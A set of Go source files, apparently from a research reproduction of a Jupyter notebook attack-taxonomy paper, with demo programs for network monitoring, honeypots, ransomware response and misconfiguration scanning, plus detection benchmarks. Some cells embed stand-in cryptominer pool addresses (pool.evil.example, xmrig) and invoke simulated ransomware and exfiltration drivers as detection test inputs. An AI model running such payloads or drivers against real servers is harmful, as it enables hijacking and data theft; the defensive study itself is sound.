	}
	fmt.Printf("cell executed: status=%s stdout=%q\n\n", res.Status, res.Stdout)

	// 3. The Fig. 2 message flow, as the client saw it.
	fmt.Println("kernel message flow (Fig. 2):")
	for _, m := range res.Messages {
		fmt.Printf("  %-8s <- %s\n", m.Channel, m.Header.MsgType)
	}

	// 4. What the passive network monitor decoded, layer by layer.
	time.Sleep(150 * time.Millisecond) // let analyzers drain
	vis := mon.Visibility()
	fmt.Printf("\nwire visibility ladder:\n")
	fmt.Printf("  connections:       %d (%d bytes)\n", vis.Conns, vis.BytesTotal)
	fmt.Printf("  http requests:     %d\n", vis.HTTPRequests)
	fmt.Printf("  websocket frames:  %d\n", vis.WSFrames)
	fmt.Printf("  jupyter messages:  %d\n", vis.JupyterMessages)

	// 5. A hostile cell: the monitor sees the payload on the wire and
	// the engine classifies it.
	_, _ = kc.Execute(`pool = "stratum+tcp://pool.evil.example:4444"
print("worker xmrig-6.21 connecting to", pool)`)
	time.Sleep(150 * time.Millisecond)

	fmt.Println("\ndetection report after a miner payload:")
	fmt.Print(eng.Report(time.Now()).Render())
	for _, inc := range eng.Incidents() {
		fmt.Println("  " + inc.Summary())
	}
}
