// Honeypot fleet: the paper's edge-deployment strategy end to end.
// Attackers hit decoy Jupyter servers at the network edge; the fleet
// extracts signatures and indicators; a production monitor merges the
// intel and then catches — on the very first event — a payload it had
// never seen locally.
package main

import (
	"fmt"
	"log"
	"time"

	"repro/internal/attacks"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/honeypot"
	"repro/internal/threatintel"
	"repro/internal/trace"
)

func main() {
	// 1. Three decoys at the "network edge".
	fleet, err := honeypot.NewFleet(3, nil)
	if err != nil {
		log.Fatal(err)
	}
	defer fleet.Close()
	fmt.Printf("fleet: %d decoys up\n", len(fleet.Honeypots))

	// 2. Attackers find them (open servers, baited content).
	campaigns := 0
	for i, hp := range fleet.Honeypots {
		c := client.New(hp.Addr, "")
		switch i % 3 {
		case 0:
			if _, err := attacks.Cryptominer(c, attacks.MinerOptions{
				Rounds: 2, BurnMillis: 1000, Blatant: true, Username: "attacker-a",
			}); err != nil {
				log.Fatal(err)
			}
		case 1:
			if _, err := attacks.Ransomware(c, attacks.RansomwareOptions{Username: "attacker-b"}); err != nil {
				log.Fatal(err)
			}
		case 2:
			if _, err := attacks.Exfiltration(c, attacks.ExfilOptions{
				TargetDir: "secrets", Encode: true, Username: "attacker-c",
			}); err != nil {
				log.Fatal(err)
			}
		}
		campaigns++
	}
	fmt.Printf("fleet: absorbed %d attack campaigns\n\n", campaigns)

	// 3. Collect intel from the edge.
	now := time.Now()
	indicators, sigs := fleet.Collect(now)
	fmt.Printf("intel collected: %d new indicators, %d extracted signatures\n", indicators, sigs)
	for _, ind := range fleet.Store.Indicators(now) {
		if ind.Type == threatintel.TypeSourceIP {
			fmt.Printf("  blocklist candidate %s (confidence %.2f, class %s)\n",
				ind.Value, ind.Confidence, ind.Class)
		}
	}

	// 4. Production loads the intel.
	eng := core.MustEngine()
	before := eng.RuleCount()
	for _, r := range fleet.Store.Rules() {
		if err := eng.AddRule(r); err != nil {
			log.Fatal(err)
		}
	}
	fmt.Printf("\nproduction monitor: %d stock rules + %d intel rules\n", before, eng.RuleCount()-before)

	// 5. The same actor pivots to production. The first execute is
	// flagged by an edge-extracted signature — production never had to
	// learn the hard way.
	alerts := eng.Process(trace.Event{
		Time: now, Kind: trace.KindExec, User: "prod-account-7",
		Code: `pool = "stratum+tcp://pool.minexmr.example:4444"` + "\n" + `worker = "xmrig-6.21"` + "\n" + `print("miner", worker, "->", pool)`,
	})
	fmt.Printf("\nfirst sighting in production -> %d alerts:\n", len(alerts))
	for _, a := range alerts {
		fmt.Printf("  [%s] %s (%s)\n", a.Severity, a.RuleID, a.Class)
	}

	// 6. Block check: is the honeypot-observed source on the blocklist?
	if fleet.Store.IsBlocked("127.0.0.1", now.Add(time.Minute)) {
		fmt.Println("\nsource 127.0.0.1 is block-listed at the production edge")
	}
}
