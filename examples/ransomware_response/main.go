// Ransomware response: the full incident lifecycle the paper motivates
// — bait content and checkpoints, an encryption sweep through the
// kernel, real-time detection, forensic provenance ("which cell
// encrypted this notebook? what else did it touch?"), tamper-evidence
// verification of the audit log, and recovery from checkpoints.
package main

import (
	"fmt"
	"log"
	"strings"

	"repro/internal/attacks"
	"repro/internal/audit"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/cryptoaudit"
	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/vfs"
)

func main() {
	// Deliberately exposed server (the incident precondition) with the
	// kernel auditing tool embedded.
	auditLog := audit.NewLog(nil)
	tracer := audit.NewTracer(auditLog)
	srv := server.NewServer(server.SloppyConfig(),
		server.WithKernelHooks(tracer.WrapHost, func(id, user, code string) {
			tracer.RecordExec(id, user, code)
		}))
	eng := core.MustEngine()
	srv.Bus().Subscribe(eng)
	addr, err := srv.Start()
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()

	// Research artifacts + operator checkpoints.
	nb := nbformat.New()
	nb.AppendMarkdown("md", "# Climate model calibration\n"+strings.Repeat("Run notes.\n", 30))
	nb.AppendCode("c1", `print("calibrating")`)
	nbJSON, _ := nb.Marshal()
	var protected []string
	for _, name := range []string{"calibration", "ablation", "final_runs"} {
		p := "notebooks/" + name + ".ipynb"
		if err := srv.FS.Write(p, "pi-carol", nbJSON); err != nil {
			log.Fatal(err)
		}
		if _, err := srv.FS.CreateCheckpoint(p); err != nil {
			log.Fatal(err)
		}
		protected = append(protected, p)
	}
	fmt.Printf("seeded %d notebooks with checkpoints on %s\n\n", len(protected), addr)

	// The attack: encryption sweep via an untrusted cell.
	res, err := attacks.Ransomware(client.New(addr, ""), attacks.RansomwareOptions{Username: "mallory"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("attack finished: succeeded=%v (%s)\n\n", res.Succeeded, strings.Join(res.Notes, "; "))

	// Detection: what fired, in real time.
	fmt.Println("incidents:")
	for _, inc := range eng.IncidentsByClass()[rules.ClassRansomware] {
		fmt.Println("  " + inc.Summary())
		seen := map[string]bool{}
		for _, a := range inc.Alerts {
			if !seen[a.RuleID] {
				seen[a.RuleID] = true
				fmt.Printf("    rule %-28s %s\n", a.RuleID, a.Description)
			}
		}
	}

	// Forensics: verify the audit log, then ask who touched a victim.
	if err := auditLog.VerifyLog(); err != nil {
		log.Fatalf("audit log tampered: %v", err)
	}
	fmt.Printf("\naudit log: %d records, hash chain intact (head %.16s…)\n",
		auditLog.Len(), auditLog.Head())

	// Checkpoint the log head with a post-quantum one-time signature.
	chain, err := cryptoaudit.NewCheckpointChain(4)
	if err != nil {
		log.Fatal(err)
	}
	ck, err := chain.Checkpoint(auditLog.Head())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("log head signed with Lamport OTS key %s (quantum-resistant)\n", ck.KeyID)

	prov := audit.BuildProvenance(auditLog.Records())
	victim := protected[0]
	for _, r := range prov.WhoTouched(victim) {
		fmt.Printf("\nforensics: %s was touched by exec seq=%d user=%s\n  code: %.100s…\n",
			victim, r.Seq, r.User, r.Detail)
		edges := prov.Reached(r.Seq)
		fmt.Printf("  blast radius: %d artifacts\n", len(edges))
	}

	// Recovery: restore every encrypted notebook from its checkpoint.
	fmt.Println("\nrecovery:")
	restored := 0
	for _, p := range protected {
		lockedPath := p + ".locked"
		cks, err := srv.FS.Checkpoints(lockedPath)
		if err != nil || len(cks) == 0 {
			fmt.Printf("  %s: NO CHECKPOINT — data lost\n", p)
			continue
		}
		if err := srv.FS.RestoreCheckpoint(lockedPath, cks[0].ID, "ops"); err != nil {
			log.Fatal(err)
		}
		_ = srv.FS.Rename(lockedPath, p, "ops")
		content, _ := srv.FS.Read(p, "ops")
		if _, err := nbformat.Parse(content); err != nil {
			fmt.Printf("  %s: restore INVALID: %v\n", p, err)
			continue
		}
		restored++
		fmt.Printf("  %s: restored (entropy %.2f bits/byte)\n", p, vfs.Entropy(content))
	}
	fmt.Printf("\n%d/%d notebooks recovered; ransom note quarantined: %v\n",
		restored, len(protected), srv.FS.Exists("README_RANSOM.txt"))
}
