// Misconfiguration audit: scan the sloppy archetype against the
// hardened baseline (static checks), probe both live the way an
// internet scanner would, and print the quantum-threat crypto
// inventory for each — the paper's security-misconfiguration class
// plus its post-quantum discussion, in one run.
package main

import (
	"fmt"
	"log"
	"time"

	"repro/internal/cryptoaudit"
	"repro/internal/misconfig"
	"repro/internal/server"
)

func main() {
	hardened := server.HardenedConfig("audit-demo-token")
	hardened.ContentQuota = 10 << 30
	sloppy := server.SloppyConfig()

	// Static audits.
	for _, tc := range []struct {
		name string
		cfg  server.Config
	}{{"hardened", hardened}, {"sloppy", sloppy}} {
		findings := misconfig.Scan(tc.cfg)
		fmt.Printf("=== static scan: %s ===\n", tc.name)
		fmt.Print(misconfig.Render(findings))
		fmt.Println()
	}

	// Live probes: boot both and scan them like a stranger.
	for _, tc := range []struct {
		name string
		cfg  server.Config
	}{{"hardened", hardened}, {"sloppy", sloppy}} {
		srv := server.NewServer(tc.cfg)
		addr, err := srv.Start()
		if err != nil {
			log.Fatal(err)
		}
		res := misconfig.Probe(addr, 3*time.Second)
		fmt.Printf("=== live probe: %s (%s) ===\n", tc.name, addr)
		fmt.Printf("open_access=%v terminals_spawnable=%v wildcard_cors=%v findings=%d\n\n",
			res.OpenAccess, res.TerminalsEnabled, res.WildcardCORS, len(res.Findings))
		_ = srv.Close()
	}

	// Quantum-threat inventory (paper §IV.B).
	fmt.Println("=== crypto inventory: hardened ===")
	fmt.Print(cryptoaudit.Audit(hardened).Render())
	fmt.Println("\n=== crypto inventory: sloppy ===")
	fmt.Print(cryptoaudit.Audit(sloppy).Render())
}
