// Package repro is JupyterGuard: a Go reproduction of "Jupyter
// Notebook Attacks Taxonomy: Ransomware, Data Exfiltration, and
// Security Misconfiguration" (Cao, SC'24 workshops).
//
// The repository implements the simulated Jupyter server substrate
// (REST + WebSocket + kernel messaging protocol), attack drivers for
// every taxonomy class, and the monitoring/auditing tooling the paper
// proposes: a Zeek-like network monitor, an embedded kernel auditor,
// edge honeypots with threat-intel sharing, a misconfiguration
// scanner, and a post-quantum audit-log signing scheme.
//
// The fleet subsystem (internal/fleet) reproduces the paper's
// wide-scan methodology at scale: it spawns a fleet of simulated
// servers whose configurations sample the misconfiguration taxonomy
// and sweeps them through a bounded, rate-limited worker pool with
// any set of pluggable scanner suites (internal/scan registry):
// config posture + live probe (misconfig), notebook deep scan of the
// target's filesystem (nbscan), quantum-threat crypto inventory
// (crypto), and threat-intel enrichment (intel). The census is
// deterministic — per-suite/severity/check histograms, worst targets
// — with streaming JSONL output and a versioned, signature-checked,
// resumable checkpoint (jscan --fleet N --suites ...). Every finding
// is also projected as a scan_finding trace event through a bounded
// stage into the full core detection engine, so a wide scan does not
// just alert through the live pipeline — it correlates per-target
// incidents and closes the census with an OSCRP risk summary, and
// its finding stream replays with jsentinel --replay.
//
// The detection substrate is a sharded streaming pipeline ("pipeline
// v2"): the trace.Bus stamps sequence numbers atomically and fans out
// over copy-on-write sink snapshots; a bounded trace.Stage decouples
// producers from slow consumers with explicit backpressure/drop
// accounting; and the rules.Engine indexes signatures by event kind,
// matches statelessly without locks, and shards threshold/sequence
// correlation state per group, so detection throughput scales with
// cores (jsentinel --workers N, BenchmarkEngineParallel). The core
// engine follows the same contract end to end: anomaly detectors are
// instantiated per actor shard (anomaly.SuiteFactories) and incident
// correlation lives in actor-keyed shards with snapshot-time incident
// IDs, so N workers drive the full brain — signatures, detectors,
// incidents, OSCRP risk — and still produce the exact alert and
// incident sets of a serial run (BenchmarkCoreParallel,
// TestShardedCoreMatchesSerial). Replays shard the event stream by
// actor, which preserves per-group ordering and keeps parallel alert
// sets identical to serial ones for the builtin detectors (see
// DESIGN.md for the exact guarantee).
//
// Persistence is the segmented event store (internal/evstore): an
// append-only log of CRC-checked frames rotated into segments, each
// with a sidecar index (kinds, actors, sequence and time ranges) that
// lets jsentinel --replay DIR --since/--until/--kinds/--actor skip
// non-matching segments outright and feed the actor-sharded detection
// workers from per-segment readers in parallel — so replay throughput
// scales with cores instead of being capped by a whole-file JSONL
// load (BenchmarkStoreReplay). Segments come in two wire versions:
// v1 frames carry JSON event payloads (CRC32-IEEE), v2 frames carry a
// compact tagged-binary encoding of trace.Event with a per-segment
// string-interning dictionary (CRC32-Castagnoli) whose frame header
// exposes kind and actor, so kind/actor-filtered replays discard
// non-matching frames after the CRC check without decoding their
// bodies. Writers (jscan --events, jupyterd --log, jingestd,
// jsentinel --log) default to binary with --codec=json as the
// interchange escape hatch; readers dispatch on the per-segment magic
// so mixed-version stores replay identically (JSON stays the
// interchange format, and .jsonl paths still stream flat JSONL).
// Compact enforces retention, and corrupt tails from crashed writers
// are truncated and surfaced on open, never silently replayed —
// identically for both codecs, with exact tail-loss accounting.
// Replay decoding is arena-backed: each segment's strings land in an
// append-only per-segment arena (zero-copy string headers behind a
// tested unsafe wrapper), segment buffers recycle containers through
// a free list, and the hot rules-engine paths build state keys on
// the stack — a full-store binary replay performs O(segments), not
// O(events × string fields), heap allocations (see DESIGN.md "Replay
// memory model" for the borrow contract).
//
// On top of the event store sits the incident history
// (internal/histstore): every alert and incident snapshot the core
// engine emits (Options.OnAlert / OnIncidentUpdate) is persisted as a
// CRC-framed, schema-versioned record with per-segment sidecar
// indexes over severity, class, actor, and OSCRP risk band, so
// `jsentinel query` answers "which incidents reached high severity
// for actor X last week" from the indexes in well under a millisecond
// instead of re-running detection over the whole store
// (BenchmarkIncidentQuery pins the ≥50x contract; the rendered table
// is byte-identical to a full re-detection pass filtered the same
// way). Every incident-producing CLI records history next to its
// event store by default (<store>/history), read-only queries are
// safe under a live writer, and retention is tiered — raw events
// compact away first (evstore.Compact), derived incident history
// last (histstore.ApplyTieredRetention, jingestd --retain-*).
//
// The ingest front-end (internal/ingest, jingestd) runs that pipeline
// as a multi-tenant service: agents stream events over HTTP batches
// or wsproto WebSockets, each connection authenticated with a
// per-tenant HMAC-SHA256 token (auth.Keyring, compared via the
// length-independent auth.DigestEqual), admitted under a global
// connection cap and per-tenant token-bucket quotas, and routed
// through one bounded single-worker trace.Stage per tenant into the
// engine and/or an event store. Identity fields are namespaced
// "tenant/..." so actor keys never cross tenants — one slow or
// abusive tenant can never convoy the rest, the per-actor
// serial-equivalence contract survives any number of connections,
// and a recorded session replays to a byte-identical incident table
// (cli_test.go pins this through the real binaries). Backpressure is
// an explicit per-tenant policy (Block = lossless stalls, DropNewest
// = counted sheds; submitted == accepted + dropped + denied holds
// exactly, BenchmarkIngestSustained). SIGINT/SIGTERM triggers a
// drain, not a drop: stop admitting, empty every stage, flush and
// close the store — the daemons (jupyterd, jsentinel, jhoneypot,
// jscan, jingestd) all honor both signals.
//
// Kernel cells execute on a minilang bytecode VM
// (internal/kernel/minilang: compile.go, opt.go, vm.go): programs are
// lowered to a flat instruction stream with slot-resolved variables,
// constant folding, and fused superinstructions, giving ≈5–6x over
// the tree-walking interpreter on the loop-heavy programs attack
// payloads resemble (BenchmarkMinilangEngines, pinned in the CI bench
// artifact). The interpreter remains the reference engine — selected
// with jupyterd --engine=tree or posture.Config.KernelEngine — and
// the oracle for the standing differential fuzz harness
// (FuzzVMMatchesInterp): both engines are observably equivalent down
// to host-call order, stdout bytes, error lines, and step-limit
// accounting, so attack scenarios replay to byte-identical trace
// streams and incident tables on either engine
// (internal/attacks/engine_equiv_test.go). The kernel manager caches
// parsed programs in a bounded LRU keyed by source hash
// (kernel.Config.ProgramCacheSize), shared across kernels, so
// repeated cells — the fleet-census shape — skip the parse and, on
// the VM, bytecode compilation entirely; hit/miss counters surface
// in kernel usage.
//
// See README.md for the tour, DESIGN.md for the system inventory, and
// EXPERIMENTS.md for the per-figure reproduction record. The root
// bench_test.go regenerates every experiment.
package repro
