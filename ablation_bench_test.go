// Ablation benchmarks for the design choices DESIGN.md calls out:
// signature vs anomaly detection coverage, the cost of message
// signing, and the overhead of embedded kernel auditing (the paper's
// proposed tracing tool, measured against its own worry about
// "unsustainable performance overhead").
package repro_test

import (
	"fmt"
	"testing"
	"time"

	"repro/internal/anomaly"
	"repro/internal/audit"
	"repro/internal/core"
	"repro/internal/jmsg"
	"repro/internal/kernel"
	"repro/internal/kernel/minilang"
	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/workload"
)

// BenchmarkAblationDetectorSuites measures ransomware detection
// latency (files encrypted before first alert) under three detector
// configurations. Signatures catch the payload at the source (0 files
// lost) but require code visibility; anomaly detection needs no code
// but pays in damage done before the statistical evidence accumulates.
func BenchmarkAblationDetectorSuites(b *testing.B) {
	mkTrace := func() *workload.Trace {
		g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
		tr := &workload.Trace{}
		g.InjectRansomware(tr, "mallory", 100)
		return tr
	}
	measure := func(b *testing.B, opts core.Options) {
		tr := mkTrace()
		var filesBefore int
		for i := 0; i < b.N; i++ {
			eng, err := core.NewEngine(opts)
			if err != nil {
				b.Fatal(err)
			}
			writes := 0
			filesBefore = -1
		scan:
			for _, e := range tr.Events {
				if e.Kind == trace.KindFileOp && e.Op == "write" {
					writes++
				}
				for _, a := range eng.Process(e) {
					if a.Class == "ransomware" {
						filesBefore = writes
						break scan
					}
				}
			}
			if filesBefore < 0 {
				b.Fatal("ransomware missed entirely")
			}
		}
		b.ReportMetric(float64(filesBefore), "files-encrypted-before-alert")
	}
	b.Run("signatures-only", func(b *testing.B) {
		opts := core.DefaultOptions()
		opts.Detectors = nil
		measure(b, opts)
	})
	b.Run("anomaly-only", func(b *testing.B) {
		opts := core.DefaultOptions()
		opts.Rules = nil
		opts.Detectors = anomaly.SuiteFactories()
		measure(b, opts)
	})
	b.Run("both", func(b *testing.B) {
		measure(b, core.DefaultOptions())
	})
}

// BenchmarkAblationSigning compares message marshaling with HMAC
// signing enabled vs disabled — the integrity cost per kernel message
// that a "no connection key" misconfiguration trades away.
func BenchmarkAblationSigning(b *testing.B) {
	msg, err := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice",
		time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC),
		jmsg.ExecuteRequest{Code: `data = read_file("data/train.csv")`})
	if err != nil {
		b.Fatal(err)
	}
	b.Run("signed", func(b *testing.B) {
		s := jmsg.NewSigner([]byte("connection-key-0123456789abcdef"))
		for i := 0; i < b.N; i++ {
			if _, err := msg.Marshal(s); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("unsigned", func(b *testing.B) {
		s := jmsg.NewSigner(nil)
		for i := 0; i < b.N; i++ {
			if _, err := msg.Marshal(s); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// BenchmarkAblationKernelAudit measures the embedded kernel auditing
// tool's overhead on a file-heavy cell — the direct answer to whether
// the paper's proposed in-kernel tracing is affordable.
func BenchmarkAblationKernelAudit(b *testing.B) {
	const cell = `files = list_files("data")
total = 0
for f in files
    total = total + len(read_file(f))
end
write_file("out/summary.txt", str(total))`

	seed := func(fs *vfs.FS) {
		for _, name := range []string{"data/a.csv", "data/b.csv", "data/c.csv"} {
			if err := fs.Write(name, "setup", []byte("col1,col2\n1,2\n3,4\n")); err != nil {
				b.Fatal(err)
			}
		}
	}
	// The engine axis rides along: no-audit runs the default bytecode
	// VM, tree-engine the reference interpreter, so the audit overhead
	// is measured relative to both execution baselines.
	b.Run("no-audit", func(b *testing.B) {
		fs := vfs.New()
		seed(fs)
		mgr := kernel.NewManager(kernel.Config{FS: fs})
		k := mgr.Start("", "bench")
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if res, err := k.Execute(cell, nil); err != nil || res.Status != "ok" {
				b.Fatalf("%+v %v", res, err)
			}
		}
	})
	b.Run("tree-engine", func(b *testing.B) {
		fs := vfs.New()
		seed(fs)
		mgr := kernel.NewManager(kernel.Config{FS: fs, Engine: minilang.EngineTree})
		k := mgr.Start("", "bench")
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if res, err := k.Execute(cell, nil); err != nil || res.Status != "ok" {
				b.Fatalf("%+v %v", res, err)
			}
		}
	})
	b.Run("audited", func(b *testing.B) {
		fs := vfs.New()
		seed(fs)
		log := audit.NewLog(nil)
		tracer := audit.NewTracer(log)
		mgr := kernel.NewManager(kernel.Config{
			FS:          fs,
			HostWrapper: tracer.WrapHost,
			ExecHook: func(id, user, code string) {
				tracer.RecordExec(id, user, code)
			},
		})
		k := mgr.Start("", "bench")
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if res, err := k.Execute(cell, nil); err != nil || res.Status != "ok" {
				b.Fatalf("%+v %v", res, err)
			}
		}
		b.StopTimer()
		if log.Len() == 0 {
			b.Fatal("audit log empty")
		}
	})
}

// BenchmarkAblationEngineScaling measures detection throughput as the
// rule count grows — the scalability axis behind the paper's "network
// traffic will keep increasing" worry.
func BenchmarkAblationEngineScaling(b *testing.B) {
	tr := workload.StandardMix(13, 1000)
	for _, extra := range []int{0, 50, 200} {
		name := map[int]string{0: "rules=builtin", 50: "rules=builtin+50", 200: "rules=builtin+200"}[extra]
		b.Run(name, func(b *testing.B) {
			eng := core.MustEngine()
			for i := 0; i < extra; i++ {
				if err := eng.AddRule(ruleN(i)); err != nil {
					b.Fatal(err)
				}
			}
			b.ResetTimer()
			n := 0
			for i := 0; i < b.N; i++ {
				eng.Process(tr.Events[n%len(tr.Events)])
				n++
			}
		})
	}
}

// ruleN builds a synthetic non-matching signature (models a large
// threat-intel feed).
func ruleN(i int) *rules.Rule {
	return &rules.Rule{
		ID:          fmt.Sprintf("INTEL-SYN-%04d", i),
		Description: "synthetic intel signature",
		Class:       "zero_day",
		Severity:    rules.SevHigh,
		Conditions: []rules.Condition{
			{Field: "kind", Equals: "exec"},
			{Field: "code", Contains: fmt.Sprintf("payload-that-never-appears-%04d", i)},
		},
	}
}
