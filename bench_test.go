// Benchmark harness: one benchmark per experiment in EXPERIMENTS.md.
// Each benchmark regenerates the measurement backing a figure, table,
// or quantitative prose claim of the paper; run with
//
//	go test -bench=. -benchmem .
package repro_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/anomaly"
	"repro/internal/audit"
	"repro/internal/auth"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/cryptoaudit"
	"repro/internal/evstore"
	"repro/internal/fleet"
	"repro/internal/histstore"
	"repro/internal/ingest"
	"repro/internal/jmsg"
	"repro/internal/kernel/minilang"
	"repro/internal/misconfig"
	"repro/internal/netmon"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/workload"
	"repro/internal/wsproto"
)

// bootServer starts a hardened server, optionally behind the wire
// monitor and/or with the detection engine subscribed.
func bootServer(b *testing.B, withMonitor, withEngine bool) (*client.Client, func()) {
	b.Helper()
	cfg := server.HardenedConfig("bench-token")
	srv := server.NewServer(cfg)
	if withEngine {
		srv.Bus().Subscribe(core.MustEngine())
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	if withMonitor {
		mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
		if withEngine {
			mon.Bus().Subscribe(core.MustEngine())
		}
		ln = mon.WrapListener(ln)
	}
	addr, err := srv.Serve(ln)
	if err != nil {
		b.Fatal(err)
	}
	return client.New(addr, "bench-token"), func() { srv.Close() }
}

// ---- E2 / Fig. 2: kernel execute round trip ----

func BenchmarkExecuteRoundTrip(b *testing.B) {
	c, done := bootServer(b, false, false)
	defer done()
	k, err := c.StartKernel("minilang")
	if err != nil {
		b.Fatal(err)
	}
	kc, err := c.ConnectKernel(k.ID, "bench")
	if err != nil {
		b.Fatal(err)
	}
	defer kc.Close()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := kc.Execute(`x = 6 * 7`)
		if err != nil || res.Status != "ok" {
			b.Fatalf("exec: %v %+v", err, res)
		}
	}
}

// ---- E4: ransomware detection throughput and latency ----

func BenchmarkRansomwareDetection(b *testing.B) {
	for _, files := range []int{10, 50, 200} {
		b.Run(fmt.Sprintf("files=%d", files), func(b *testing.B) {
			g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
			tr := &workload.Trace{}
			g.InjectRansomware(tr, "mallory", files)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				eng := core.MustEngine()
				detected := false
				for _, e := range tr.Events {
					for _, a := range eng.Process(e) {
						if a.Class == "ransomware" {
							detected = true
						}
					}
				}
				if !detected {
					b.Fatal("ransomware missed")
				}
			}
			b.ReportMetric(float64(len(tr.Events)), "events/incident")
		})
	}
}

// BenchmarkRansomwareDetectionLatency reports how many files the
// sweep encrypts before the first alert — the paper's "early
// detection" motivation quantified.
func BenchmarkRansomwareDetectionLatency(b *testing.B) {
	g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &workload.Trace{}
	g.InjectRansomware(tr, "mallory", 100)
	var filesBeforeAlert int
	for i := 0; i < b.N; i++ {
		eng := core.MustEngine()
		filesBeforeAlert = 0
		writes := 0
	scan:
		for _, e := range tr.Events {
			if e.Kind == trace.KindFileOp && e.Op == "write" {
				writes++
			}
			for _, a := range eng.Process(e) {
				if a.Class == "ransomware" {
					filesBeforeAlert = writes
					break scan
				}
			}
		}
	}
	b.ReportMetric(float64(filesBeforeAlert), "files-encrypted-before-alert")
}

// ---- E5: exfiltration detection vs chunking ----

func BenchmarkExfilDetection(b *testing.B) {
	for _, chunks := range []int{1, 8, 64} {
		b.Run(fmt.Sprintf("chunks=%d", chunks), func(b *testing.B) {
			g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
			tr := &workload.Trace{}
			g.InjectExfil(tr, "mallory", 16<<20, chunks)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				eng := core.MustEngine()
				detected := false
				for _, e := range tr.Events {
					for _, a := range eng.Process(e) {
						if a.Class == "data_exfiltration" {
							detected = true
						}
					}
				}
				if !detected {
					b.Fatal("exfil missed")
				}
			}
		})
	}
}

// ---- E6: miner detection vs duty cycle ----

func BenchmarkMinerDetection(b *testing.B) {
	for _, duty := range []struct {
		name       string
		burn, idle time.Duration
	}{
		{"duty=90pct", 54 * time.Second, 6 * time.Second},
		{"duty=70pct", 42 * time.Second, 18 * time.Second},
	} {
		b.Run(duty.name, func(b *testing.B) {
			g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
			tr := &workload.Trace{}
			g.InjectMiner(tr, "mallory", 8, duty.burn, duty.idle)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				eng := core.MustEngine()
				detected := false
				for _, e := range tr.Events {
					for _, a := range eng.Process(e) {
						if a.Class == "cryptomining" {
							detected = true
						}
					}
				}
				if !detected {
					b.Fatal("miner missed")
				}
			}
		})
	}
}

// ---- E7: misconfiguration scan ----

func BenchmarkMisconfigScan(b *testing.B) {
	cfg := server.SloppyConfig()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		findings := misconfig.Scan(cfg)
		if len(findings) < 10 {
			b.Fatal("findings missing")
		}
	}
}

// ---- E7b: fleet census throughput ----
//
// The paper's methodology is a wide scan over many servers; this
// measures how fast the concurrent sweep covers a fleet at several
// worker-pool sizes — the scaling knob for internet-scale coverage.

func BenchmarkFleetScan(b *testing.B) {
	const fleetSize = 32
	fl, err := fleet.Spawn(fleet.Generate(1, fleetSize))
	if err != nil {
		b.Fatal(err)
	}
	defer fl.Close()
	targets := fl.Targets()
	for _, workers := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				rep, err := fleet.Scan(context.Background(), targets, fleet.Options{Workers: workers})
				if err != nil {
					b.Fatal(err)
				}
				if rep.Scanned != fleetSize {
					b.Fatalf("scanned %d/%d", rep.Scanned, fleetSize)
				}
			}
			b.ReportMetric(float64(fleetSize)*float64(b.N)/b.Elapsed().Seconds(), "targets/sec")
		})
	}
}

// BenchmarkFleetDeepScan measures the multi-suite sweep: every target
// gets the full posture audit, live probe, notebook deep scan, crypto
// inventory, and threat-intel enrichment. Throughput must scale with
// the worker pool — the knob that takes the paper's census from one
// server to internet scale.
func BenchmarkFleetDeepScan(b *testing.B) {
	const fleetSize = 32
	fl, err := fleet.Spawn(fleet.Generate(1, fleetSize))
	if err != nil {
		b.Fatal(err)
	}
	defer fl.Close()
	targets := fl.Targets()
	suites := []string{"misconfig", "nbscan", "crypto", "intel"}
	for _, workers := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				rep, err := fleet.Scan(context.Background(), targets, fleet.Options{
					Workers: workers, Suites: suites,
				})
				if err != nil {
					b.Fatal(err)
				}
				if rep.Scanned != fleetSize {
					b.Fatalf("scanned %d/%d", rep.Scanned, fleetSize)
				}
				if rep.BySuite["nbscan"] == 0 || rep.BySuite["crypto"] == 0 {
					b.Fatal("deep-scan suites produced no findings")
				}
			}
			b.ReportMetric(float64(fleetSize)*float64(b.N)/b.Elapsed().Seconds(), "targets/sec")
		})
	}
}

// ---- E8: brute-force detection ----

func BenchmarkBruteForceDetection(b *testing.B) {
	g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &workload.Trace{}
	g.InjectBruteForce(tr, "203.0.113.66", 12, true)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
